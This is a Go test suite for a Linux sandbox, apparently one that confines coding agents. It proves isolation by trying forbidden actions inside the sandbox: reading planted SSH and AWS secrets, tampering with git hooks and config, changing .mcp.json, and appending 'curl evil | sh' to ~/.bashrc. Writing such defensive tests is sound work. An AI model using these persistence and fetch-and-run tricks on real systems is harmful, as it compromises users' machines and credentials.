package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// These tests build the real sbshim and the attempt program, run them as
// the user running the tests (root in CI, and again as an unprivileged
// user), and prove each promise of the sandbox by attempting the forbidden
// thing inside it.

// binDir holds the built binaries. It lies outside /tmp, which is private
// inside the sandbox, so that the sandbox can run them.
var binDir string

func TestMain(m *testing.M) {
	os.Exit(testMain(m))
}

func testMain(m *testing.M) int {
	dir, err := os.MkdirTemp(testRoot(), "sbshim-bin-")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	defer os.RemoveAll(dir)
	if err := os.Chmod(dir, 0o755); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	for name, pkg := range map[string]string{
		"sbshim": ".", "attempt": "../../testdata/attempt",
		"probe": "../../testdata/probe", "echo": "../../testdata/echo",
	} {
		cmd := exec.Command("go", "build", "-o", filepath.Join(dir, name), pkg)
		cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
		if out, err := cmd.CombinedOutput(); err != nil {
			fmt.Fprintf(os.Stderr, "build %s: %v\n%s", name, err, out)
			return 1
		}
	}
	binDir = dir
	return m.Run()
}

// testRoot is where test homes and binaries live: not under /tmp, which the
// sandbox replaces with a private one.
func testRoot() string {
	if d := os.Getenv("SBSHIM_TEST_DIR"); d != "" {
		return d
	}
	return "/var/tmp"
}

// box is one test's world: a home with secrets, a workspace inside it.
type box struct {
	t    *testing.T
	root string
	home string
	ws   string
	env  []string // extra environment for sbshim
}

func newBox(t *testing.T) *box {
	t.Helper()
	root, err := os.MkdirTemp(testRoot(), "sbshim-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(root) })
	b := &box{t: t, root: root, home: filepath.Join(root, "home"), ws: filepath.Join(root, "home", "proj")}
	b.mkfile(".ssh/id_rsa", "SSH-PRIVATE-KEY-SECRET")
	b.mkfile(".aws/credentials", "[default]\naws_secret_access_key=AWS-SECRET")
	b.mkfile(".bashrc", "# rc\n")
	b.mkfile("proj/README", "hello\n")
	b.mkfile("proj/.git/config", "[core]\n")
	b.mkfile("proj/.git/hooks/README.sample", "sample\n")
	return b
}

func (b *box) mkfile(rel, content string) string {
	b.t.Helper()
	p := filepath.Join(b.home, rel)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		b.t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		b.t.Fatal(err)
	}
	return p
}

func (b *box) path(rel string) string { return filepath.Join(b.home, rel) }

// command builds an sbshim invocation: flags, then "--", then argv.
func (b *box) command(flags []string, argv ...string) *exec.Cmd {
	args := append(append(append([]string{}, flags...), "--"), argv...)
	cmd := exec.Command(filepath.Join(binDir, "sbshim"), args...)
	cmd.Dir = b.ws
	cmd.Env = append(filteredEnviron(), "HOME="+b.home,
		"XDG_CONFIG_HOME="+filepath.Join(b.home, ".config"),
		"XDG_CACHE_HOME="+filepath.Join(b.home, ".cache"),
		"XDG_STATE_HOME="+filepath.Join(b.root, "state"))
	cmd.Env = append(cmd.Env, b.env...)
	return cmd
}

func filteredEnviron() []string {
	var env []string
	for _, kv := range os.Environ() {
		switch strings.SplitN(kv, "=", 2)[0] {
		// The user's own directories: a test must not read or change
		// the real ones (the agents' state, the clients' configs).
		case "HOME", "XDG_CONFIG_HOME", "XDG_CACHE_HOME", "XDG_STATE_HOME",
			"CLAUDE_CONFIG_DIR", "CODEX_HOME", "GEMINI_CLI_HOME":
			continue
		}
		env = append(env, kv)
	}
	return env
}

// run runs sbshim and returns stdout, stderr and the exit status.
func (b *box) run(flags []string, argv ...string) (string, string, int) {
	b.t.Helper()
	cmd := b.command(flags, argv...)
	var stdout, stderr strings.Builder
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
		if ws, ok := ee.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
			code = 128 + int(ws.Signal())
		}
	} else if err != nil {
		b.t.Fatalf("run sbshim: %v", err)
	}
	return stdout.String(), stderr.String(), code
}

type outcome struct {
	OK     bool   `json:"ok"`
	Errno  string `json:"errno"`
	Detail string `json:"detail"`
}

// attempt runs the attempt program inside the sandbox.
func (b *box) attempt(flags []string, action ...string) outcome {
	b.t.Helper()
	stdout, stderr, code := b.run(flags, append([]string{filepath.Join(binDir, "attempt")}, action...)...)
	var o outcome
	if err := json.Unmarshal([]byte(strings.TrimSpace(stdout)), &o); err != nil {
		b.t.Fatalf("attempt %v: exit %d, stdout %q, stderr %q", action, code, stdout, stderr)
	}
	return o
}

func (b *box) mustFail(flags []string, wantErrno string, action ...string) {
	b.t.Helper()
	o := b.attempt(flags, action...)
	if o.OK {
		b.t.Fatalf("attempt %v succeeded inside the sandbox; it must fail", action)
	}
	if wantErrno != "" && o.Errno != wantErrno {
		b.t.Fatalf("attempt %v failed with %s (%s), want %s", action, o.Errno, o.Detail, wantErrno)
	}
}

func (b *box) mustWork(flags []string, action ...string) outcome {
	b.t.Helper()
	o := b.attempt(flags, action...)
	if !o.OK {
		b.t.Fatalf("attempt %v failed inside the sandbox: %s %s", action, o.Errno, o.Detail)
	}
	return o
}

func TestSecretsAreUnreadable(t *testing.T) {
	b := newBox(t)
	for _, rel := range []string{".ssh/id_rsa", ".aws/credentials"} {
		t.Run(rel, func(t *testing.T) {
			o := b.attempt(nil, "read", b.path(rel))
			if o.OK || strings.Contains(o.Detail, "SECRET") {
				t.Fatalf("read %s inside the sandbox: %+v", rel, o)
			}
			if o.Errno != "EACCES" {
				t.Fatalf("read %s: errno %s, want EACCES", rel, o.Errno)
			}
		})
	}
	// Something ordinary in the same home stays readable.
	if o := b.mustWork(nil, "read", b.path(".bashrc")); o.Detail != "# rc\n" {
		t.Fatalf("read ~/.bashrc: %q", o.Detail)
	}
}

func TestWritesStayInTheWorkspace(t *testing.T) {
	b := newBox(t)
	b.mustWork(nil, "write", filepath.Join(b.ws, "made-inside"), "data")
	st, err := os.Stat(filepath.Join(b.ws, "made-inside"))
	if err != nil {
		t.Fatalf("the file written inside the workspace is not on the host: %v", err)
	}
	if uid := st.Sys().(*syscall.Stat_t).Uid; int(uid) != os.Getuid() {
		t.Fatalf("file belongs to uid %d, want the user's own %d", uid, os.Getuid())
	}
	for _, p := range []string{b.path("outside"), "/etc/sbshim-test-write", "/usr/sbshim-test-write"} {
		b.mustFail(nil, "EROFS", "write", p, "x")
		if _, err := os.Stat(p); err == nil {
			t.Fatalf("%s was created on the host", p)
		}
	}
	// /tmp is private: writable inside, invisible outside.
	name := fmt.Sprintf("/tmp/sbshim-private-%d", time.Now().UnixNano())
	b.mustWork(nil, "write", name, "x")
	if _, err := os.Stat(name); err == nil {
		os.Remove(name)
		t.Fatalf("%s written inside the sandbox appeared in the host's /tmp", name)
	}
}

func TestProtectedPathsCannotBeChanged(t *testing.T) {
	b := newBox(t)
	ws := b.ws
	cases := []struct {
		name   string
		action []string
		check  string // host path that must be unchanged or absent
	}{
		{"create hook", []string{"write", ws + "/.git/hooks/pre-commit", "#!/bin/sh\n"}, ws + "/.git/hooks/pre-commit"},
		{"change git config", []string{"append", ws + "/.git/config", "[core]\nfsmonitor=evil\n"}, ws + "/.git/config"},
		{"replace git config", []string{"rename", ws + "/README", ws + "/.git/config"}, ws + "/.git/config"},
		{"remove hooks", []string{"rename", ws + "/.git/hooks", ws + "/hooks-gone"}, ws + "/.git/hooks/README.sample"},
		{"create .mcp.json", []string{"write", ws + "/.mcp.json", "{}"}, ws + "/.mcp.json"},
		{"create .vscode", []string{"mkdir", ws + "/.vscode"}, ws + "/.vscode"},
		{"rename onto .mcp.json", []string{"rename", ws + "/README", ws + "/.mcp.json"}, ws + "/.mcp.json"},
		{"symlink named .mcp.json", []string{"symlink", "/etc/passwd", ws + "/.mcp.json"}, ws + "/.mcp.json"},
		{"hard link to git config", []string{"link", ws + "/.git/config", ws + "/cfg-link"}, ws + "/cfg-link"},
		{"change ~/.bashrc", []string{"append", b.path(".bashrc"), "curl evil | sh\n"}, b.path(".bashrc")},
		// Moving .git away takes its read-only binds along and frees the
		// name for a .git file naming a repository the program wrote.
		{"move .git away", []string{"rename", ws + "/.git", ws + "/.git-old"}, ws + "/.git/config"},
		{"swap .git", []string{"exchange", ws + "/.git", ws + "/README"}, ws + "/.git/config"},
	}
	before := snapshot(t, b.home)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			b.mustFail(nil, "", c.action...)
		})
	}
	// Through links planted in the workspace.
	if err := os.Symlink(".git/config", filepath.Join(ws, "planted-config")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(".mcp.json", filepath.Join(ws, "planted-mcp")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(".git/hooks/post-checkout", filepath.Join(ws, "planted-hook")); err != nil {
		t.Fatal(err)
	}
	t.Run("write through symlink to git config", func(t *testing.T) {
		b.mustFail(nil, "", "append", filepath.Join(ws, "planted-config"), "evil")
	})
	t.Run("create through symlink to .mcp.json", func(t *testing.T) {
		b.mustFail(nil, "", "write", filepath.Join(ws, "planted-mcp"), "{}")
	})
	t.Run("create hook through symlink", func(t *testing.T) {
		b.mustFail(nil, "", "write", filepath.Join(ws, "planted-hook"), "#!/bin/sh\n")
	})
	after := snapshot(t, b.home)
	for p, v := range before {
		if after[p] != v {
			t.Errorf("%s changed: %q → %q", p, v, after[p])
		}
	}
	for p, v := range after {
		if _, ok := before[p]; !ok && !strings.HasPrefix(filepath.Base(p), "planted-") && !strings.HasPrefix(p, b.path(".cache")) {
			t.Errorf("%s appeared: %q", p, v)
		}
	}
}

// snapshot maps every file under dir to its content (symlinks to their
// target).
func snapshot(t *testing.T, dir string) map[string]string {
	t.Helper()
	m := map[string]string{}
	err := filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		switch {
		case fi.Mode()&os.ModeSymlink != 0:
			l, _ := os.Readlink(p)
			m[p] = "-> " + l
		case fi.Mode().IsRegular():
			c, _ := os.ReadFile(p)
			m[p] = string(c)
		case fi.IsDir():
			m[p] = "dir"
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestProcShowsOnlyTheSandbox(t *testing.T) {
	b := newBox(t)
	o := b.mustWork(nil, "pids")
	pids := strings.Fields(o.Detail)
	if len(pids) > 4 {
		t.Fatalf("/proc inside shows %d processes (%v); want only the sandbox's", len(pids), pids)
	}
	for _, p := range pids {
		if p == strconv.Itoa(os.Getpid()) && os.Getpid() > 4 {
			t.Fatalf("the test's own pid %s is visible inside", p)
		}
	}
}

func TestHostProcessesAreUnreachable(t *testing.T) {
	b := newBox(t)
	sleeper := exec.Command("sleep", "60")
	if err := sleeper.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = sleeper.Process.Kill(); _ = sleeper.Wait() }()
	pid := strconv.Itoa(sleeper.Process.Pid)
	b.mustFail(nil, "", "kill", pid)
	b.mustFail(nil, "", "ptrace", pid)
	// Inside, the sandbox's own init cannot be traced either.
	b.mustFail(nil, "EPERM", "ptrace", "1")
}

func TestDangerousSyscallsFail(t *testing.T) {
	b := newBox(t)
	for _, action := range [][]string{{"tiocsti"}, {"io-uring"}, {"userns"}, {"unshare-user"}, {"mount", "/tmp"}} {
		t.Run(action[0], func(t *testing.T) { b.mustFail(nil, "EPERM", action...) })
	}
}

// serveUnix serves a greeting on a unix socket, as a host service would.
func serveUnix(t *testing.T, path string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			_, _ = c.Write([]byte("host-service"))
			c.Close()
		}
	}()
}

func TestHostUnixSocketsAreUnreachable(t *testing.T) {
	b := newBox(t)
	sock := b.path("run/docker.sock")
	serveUnix(t, sock)
	b.mustFail(nil, "EACCES", "connect-unix", sock)
	// Listed sockets stay reachable.
	if o := b.mustWork([]string{"--allow-unix-socket", sock}, "connect-unix", sock); o.Detail != "host-service" {
		t.Fatalf("allowed socket answered %q", o.Detail)
	}
}

func TestNetworkModes(t *testing.T) {
	b := newBox(t)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	hostNS, err := os.Readlink("/proc/self/ns/net")
	if err != nil {
		t.Fatal(err)
	}
	for _, mode := range []string{"none", "proxy"} {
		t.Run(mode, func(t *testing.T) {
			flags := []string{"--net", mode}
			b.mustFail(flags, "", "connect-tcp", l.Addr().String())
			if o := b.mustWork(flags, "netns"); o.Detail == hostNS {
				t.Fatalf("network mode %s shares the host's network namespace %s", mode, hostNS)
			}
		})
	}
	t.Run("host", func(t *testing.T) {
		b.mustWork([]string{"--net", "host"}, "connect-tcp", l.Addr().String())
		if o := b.mustWork([]string{"--net", "host"}, "netns"); o.Detail != hostNS {
			t.Fatalf("network mode host: namespace %s, want the host's %s", o.Detail, hostNS)
		}
	})
}

func TestEnvironmentSecretsAreDropped(t *testing.T) {
	b := newBox(t)
	b.env = []string{"FOO_TOKEN=t1", "AWS_SECRET_ACCESS_KEY=t2", "SSH_AUTH_SOCK=/run/agent", "MY_API_KEY=t3",
		"GITHUB_TOKEN=t4", "DB_PASSWORD=t5", "PLAIN_SETTING=keep"}
	env := b.mustWork(nil, "env").Detail
	for _, name := range []string{"FOO_TOKEN", "AWS_SECRET_ACCESS_KEY", "SSH_AUTH_SOCK", "MY_API_KEY", "GITHUB_TOKEN", "DB_PASSWORD"} {
		if strings.Contains(env, name+"=") {
			t.Errorf("%s reached the sandbox", name)
		}
	}
	if !strings.Contains(env, "PLAIN_SETTING=keep") {
		t.Errorf("an ordinary variable was dropped")
	}
	env = b.mustWork([]string{"--env-pass", "FOO_TOKEN"}, "env").Detail
	if !strings.Contains(env, "FOO_TOKEN=t1") {
		t.Errorf("--env-pass FOO_TOKEN did not pass it")
	}
}

func TestKillNineLeavesNothing(t *testing.T) {
	b := newBox(t)
	token := fmt.Sprintf("%d.%d", 1000+os.Getpid()%1000, time.Now().UnixNano()%1000000)
	cmd := b.command(nil, filepath.Join(binDir, "attempt"), "sleep-tree", token)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	// sbshim, the attempt program and its three sleeps.
	waitFor(t, "the sandboxed processes to start", func() bool { return len(processesWith(token)) >= 5 })
	if err := cmd.Process.Signal(syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	_ = cmd.Wait()
	waitFor(t, "every sandboxed process to be gone", func() bool { return len(processesWith(token)) == 0 })
}

// processesWith lists the pids whose command line contains token.
func processesWith(token string) []string {
	ents, _ := os.ReadDir("/proc")
	var pids []string
	for _, e := range ents {
		if _, err := strconv.Atoi(e.Name()); err != nil {
			continue
		}
		cl, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if err == nil && strings.Contains(string(cl), token) {
			pids = append(pids, e.Name())
		}
	}
	return pids
}

// waitFor polls cond for up to ten seconds; it bounds a wait, it times
// nothing.
func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		if cond() {
			return
		}
	}
	t.Fatalf("timed out waiting for %s", what)
}

func TestExitStatus(t *testing.T) {
	b := newBox(t)
	cases := []struct {
		argv []string
		want int
	}{
		{[]string{"true"}, 0},
		{[]string{"sh", "-c", "exit 7"}, 7},
		{[]string{"sh", "-c", "kill -TERM $$"}, 128 + 15},
		{[]string{"sh", "-c", "kill -KILL $$"}, 128 + 9},
		{[]string{"no-such-command-anywhere"}, 127},
		{[]string{"/no/such/path"}, 127},
		{[]string{"/etc/passwd"}, 126},
		{[]string{"/etc"}, 126},
	}
	for _, c := range cases {
		t.Run(strings.Join(c.argv, " "), func(t *testing.T) {
			if _, stderr, code := b.run(nil, c.argv...); code != c.want {
				t.Fatalf("exit %d, want %d (stderr %q)", code, c.want, stderr)
			}
		})
	}
}

func TestSignalsArePassedOn(t *testing.T) {
	b := newBox(t)
	for _, sig := range []syscall.Signal{syscall.SIGTERM, syscall.SIGINT, syscall.SIGHUP} {
		t.Run(sig.String(), func(t *testing.T) {
			cmd := b.command(nil, "sh", "-c", `trap 'exit 3' TERM INT HUP; echo ready; while :; do sleep 0.05; done`)
			out, err := cmd.StdoutPipe()
			if err != nil {
				t.Fatal(err)
			}
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			line, _ := bufio.NewReader(out).ReadString('\n')
			if line != "ready\n" {
				t.Fatalf("got %q", line)
			}
			if err := cmd.Process.Signal(sig); err != nil {
				t.Fatal(err)
			}
			err = cmd.Wait()
			if code := cmd.ProcessState.ExitCode(); code != 3 {
				t.Fatalf("exit %d (%v), want 3 from the command's trap", code, err)
			}
		})
	}
}

// A signal that reaches sbshim while the sandbox is being set up is kept
// and passed on once the command runs: the command ends by it (129 for
// SIGHUP before the shell's trap is set, 3 after), never the sandbox's
// init, which once exited with status 2 when the signal beat its handlers.
func TestSignalDuringStart(t *testing.T) {
	b := newBox(t)
	for i := range 10 {
		cmd := b.command(nil, "sh", "-c", `trap 'exit 3' HUP; while :; do sleep 0.05; done`)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		// sbshim catches the signals it passes on before it starts the
		// init; its first child shows that it has.
		deadline := time.Now().Add(10 * time.Second)
		for !hasChild(cmd.Process.Pid) {
			if time.Now().After(deadline) {
				cmd.Process.Kill()
				t.Fatal("sbshim started no init within 10s")
			}
			time.Sleep(100 * time.Microsecond)
		}
		if err := cmd.Process.Signal(syscall.SIGHUP); err != nil {
			t.Fatal(err)
		}
		err := cmd.Wait()
		if code := cmd.ProcessState.ExitCode(); code != 3 && code != 128+int(syscall.SIGHUP) {
			t.Fatalf("run %d: exit %d (%v), want 3 or %d: the command must end by the signal", i, code, err, 128+int(syscall.SIGHUP))
		}
	}
}

// hasChild says whether process pid has a child process.
func hasChild(pid int) bool { return len(childPids(pid)) > 0 }

func TestBadConfigIsRefused(t *testing.T) {
	b := newBox(t)
	badFile := b.mkfile("bad.json", `{"filesystem": {"denyRaed": ["~/x"]}}`)
	badMode := b.mkfile("mode.json", `{"network": {"mode": "sometimes"}}`)
	notJSON := b.mkfile("broken.json", `{"filesystem": `)
	cases := []struct {
		name  string
		flags []string
		setup func()
		want  []string
	}{
		{"unknown profile", []string{"--profile", "no-such-profile"}, nil, []string{"no-such-profile"}},
		{"unknown key", []string{"--profile", badFile}, nil, []string{badFile, "filesystem.denyRaed"}},
		{"bad value", []string{"--profile", badMode}, nil, []string{badMode, "network.mode", "sometimes"}},
		{"not JSON", []string{"--profile", notJSON}, nil, []string{notJSON}},
		{"bad flag value", []string{"--net", "sometimes"}, nil, []string{"network.mode", "sometimes"}},
		{"broken user config", nil, func() { b.mkfile(".config/sbshim/config.json", `{"env": {"pass": "PATH"}}`) },
			[]string{"config.json", "env.pass"}},
	}
	marker := filepath.Join(b.ws, "command-ran")
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if c.setup != nil {
				c.setup()
				defer os.Remove(b.path(".config/sbshim/config.json"))
			}
			_, stderr, code := b.run(c.flags, "touch", marker)
			if code != 125 {
				t.Fatalf("exit %d, want 125 (stderr %q)", code, stderr)
			}
			for _, w := range c.want {
				if !strings.Contains(stderr, w) {
					t.Errorf("stderr %q does not name %q", stderr, w)
				}
			}
			if _, err := os.Stat(marker); err == nil {
				t.Fatalf("the command ran despite the bad config")
			}
		})
	}
}

// TestWithoutUserNamespaces runs sbshim where user namespaces cannot be
// created: inside an outer sbshim, whose seccomp filter refuses them, for
// root and unprivileged users alike. The outer one has a home of its own,
// so its masks do not hide the box's secrets: only the inner sbshim's
// Landlock layer can. It must keep secrets unreadable and writes in the
// workspace, say so once, and refuse under --strict.
func TestWithoutUserNamespaces(t *testing.T) {
	b := newBox(t)
	outerHome := filepath.Join(b.root, "outer")
	if err := os.MkdirAll(outerHome, 0o755); err != nil {
		t.Fatal(err)
	}
	wrap := func(flags []string, argv ...string) (string, string, int) {
		inner := b.command(flags, argv...)
		outerArgv := append([]string{"env", "HOME=" + b.home,
			"XDG_CONFIG_HOME=" + filepath.Join(b.home, ".config"),
			"XDG_CACHE_HOME=" + filepath.Join(b.home, ".cache")}, inner.Args...)
		outer := b.command(nil, outerArgv...)
		for i, kv := range outer.Env {
			switch strings.SplitN(kv, "=", 2)[0] {
			case "HOME":
				outer.Env[i] = "HOME=" + outerHome
			case "XDG_CONFIG_HOME", "XDG_CACHE_HOME", "XDG_STATE_HOME":
				outer.Env[i] = strings.SplitN(kv, "=", 2)[0] + "=" + filepath.Join(outerHome, "xdg")
			}
		}
		var stdout, stderr strings.Builder
		outer.Stdout, outer.Stderr = &stdout, &stderr
		err := outer.Run()
		code := 0
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		} else if err != nil {
			t.Fatal(err)
		}
		return stdout.String(), stderr.String(), code
	}
	attempt := filepath.Join(binDir, "attempt")
	stdout, stderr, code := wrap(nil, attempt, "read", b.path(".ssh/id_rsa"))
	if code != 0 || strings.Contains(stdout, "SECRET") || !strings.Contains(stdout, `"ok":false`) {
		t.Fatalf("degraded: exit %d, stdout %q, stderr %q", code, stdout, stderr)
	}
	if strings.Count(stderr, "user namespaces are unavailable") != 1 {
		t.Fatalf("degraded mode must be announced once on stderr, got %q", stderr)
	}
	if stdout, _, _ := wrap(nil, attempt, "write", b.path("outside"), "x"); !strings.Contains(stdout, `"ok":false`) {
		t.Fatalf("degraded: writing outside the workspace: %s", stdout)
	}
	if stdout, _, _ := wrap(nil, attempt, "write", filepath.Join(b.ws, "inside"), "x"); !strings.Contains(stdout, `"ok":true`) {
		t.Fatalf("degraded: writing inside the workspace: %s", stdout)
	}
	if _, stderr, code := wrap([]string{"--strict"}, "true"); code != 125 || !strings.Contains(stderr, "--strict") {
		t.Fatalf("--strict without user namespaces: exit %d, stderr %q", code, stderr)
	}
}

// TestNested runs sbshim inside sbshim: the inner one cannot create
// namespaces (seccomp forbids it) and stacks Landlock and seccomp instead.
func TestNested(t *testing.T) {
	b := newBox(t)
	sb := filepath.Join(binDir, "sbshim")
	stdout, stderr, code := b.run(nil, sb, "--", filepath.Join(binDir, "attempt"), "read", b.path(".ssh/id_rsa"))
	if code != 0 || !strings.Contains(stdout, `"ok":false`) || strings.Contains(stdout, "SECRET") {
		t.Fatalf("nested: exit %d, stdout %q, stderr %q", code, stdout, stderr)
	}
	stdout, stderr, code = b.run(nil, sb, "--", filepath.Join(binDir, "attempt"), "write", filepath.Join(b.ws, "nested"), "x")
	if code != 0 || !strings.Contains(stdout, `"ok":true`) {
		t.Fatalf("nested write in the workspace: exit %d, stdout %q, stderr %q", code, stdout, stderr)
	}
}

// The sandbox's init is forked while the policy loads, with a network
// namespace of its own (isolation.Prefork). Where the policy needs other
// namespaces (network mode host) that init is ended and reaped, and
// another one forked: either way the running sandbox has one init, in
// the namespaces its policy asks for.
func TestPreforkedInitTakenOrEnded(t *testing.T) {
	b := newBox(t)
	hostNS, err := os.Readlink("/proc/self/ns/net")
	if err != nil {
		t.Fatal(err)
	}
	for _, mode := range []string{"proxy", "none", "host"} {
		t.Run(mode, func(t *testing.T) {
			cmd := b.command([]string{"--net", mode}, "sh", "-c", `readlink /proc/self/ns/net; read x`)
			stdin, err := cmd.StdinPipe()
			if err != nil {
				t.Fatal(err)
			}
			stdout, err := cmd.StdoutPipe()
			if err != nil {
				t.Fatal(err)
			}
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			defer cmd.Wait()
			defer stdin.Close()
			line, err := bufio.NewReader(stdout).ReadString('\n')
			if err != nil {
				t.Fatalf("no line from the command: %v", err)
			}
			if ns := strings.TrimSpace(line); (ns == hostNS) != (mode == "host") {
				t.Fatalf("network mode %s: the command's network namespace is %s, the host's %s", mode, ns, hostNS)
			}
			if kids := childPids(cmd.Process.Pid); len(kids) != 1 {
				t.Fatalf("network mode %s: sbshim has %d children %v while the command runs, want its one init", mode, len(kids), kids)
			}
		})
	}
}

// childPids lists the children of process pid, zombies included.
func childPids(pid int) []string {
	var out []string
	tasks, _ := os.ReadDir(fmt.Sprintf("/proc/%d/task", pid))
	for _, task := range tasks {
		data, _ := os.ReadFile(fmt.Sprintf("/proc/%d/task/%s/children", pid, task.Name()))
		out = append(out, strings.Fields(string(data))...)
	}
	return out
}

// A sbshim killed by SIGKILL cannot remove the pids cgroup it made for
// its sandbox (as root); the next sbshim removes it. As another user
// sbshim makes no cgroup at all.
func TestKilledSbshimLeavesNoCgroup(t *testing.T) {
	b := newBox(t)
	cmd := b.command(nil, "sh", "-c", "echo ready; exec sleep 60")
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	if line, err := bufio.NewReader(stdout).ReadString('\n'); err != nil || line != "ready\n" {
		cmd.Process.Kill()
		t.Fatalf("the command did not start: %q, %v", line, err)
	}
	pid := cmd.Process.Pid
	want := 0
	if os.Getuid() == 0 {
		want = 1
	}
	if got := sbshimCgroups(pid); len(got) != want {
		cmd.Process.Kill()
		t.Fatalf("a running sandbox has pids cgroups %v, want %d (uid %d)", got, want, os.Getuid())
	}
	cmd.Process.Kill()
	cmd.Wait()
	// The sandbox dies with its init, which dies with sbshim; its cgroup
	// stays, empty.
	deadline := time.Now().Add(10 * time.Second)
	for _, dir := range sbshimCgroups(pid) {
		for {
			procs, err := os.ReadFile(filepath.Join(dir, "cgroup.procs"))
			if err != nil || len(strings.TrimSpace(string(procs))) == 0 {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("%s still holds %s 10 s after sbshim was killed", dir, procs)
			}
			time.Sleep(10 * time.Millisecond)
		}
	}
	if got := sbshimCgroups(pid); len(got) != want {
		t.Fatalf("after SIGKILL: pids cgroups %v, want %d left behind", got, want)
	}
	if _, stderr, code := b.run(nil, "true"); code != 0 {
		t.Fatalf("the next sbshim: exit %d: %s", code, stderr)
	}
	if got := sbshimCgroups(pid); len(got) != 0 {
		t.Fatalf("the next sbshim left the killed one's cgroups %v", got)
	}
}

// sbshimCgroups lists the cgroups sbshim process pid made, at any depth
// up to four below /sys/fs/cgroup.
func sbshimCgroups(pid int) []string {
	var out []string
	pattern := "sbshim-" + strconv.Itoa(pid) + "-*"
	for depth := range 5 {
		glob := filepath.Join(append([]string{"/sys/fs/cgroup"}, append(slices.Repeat([]string{"*"}, depth), pattern)...)...)
		m, _ := filepath.Glob(glob)
		out = append(out, m...)
	}
	return out
}
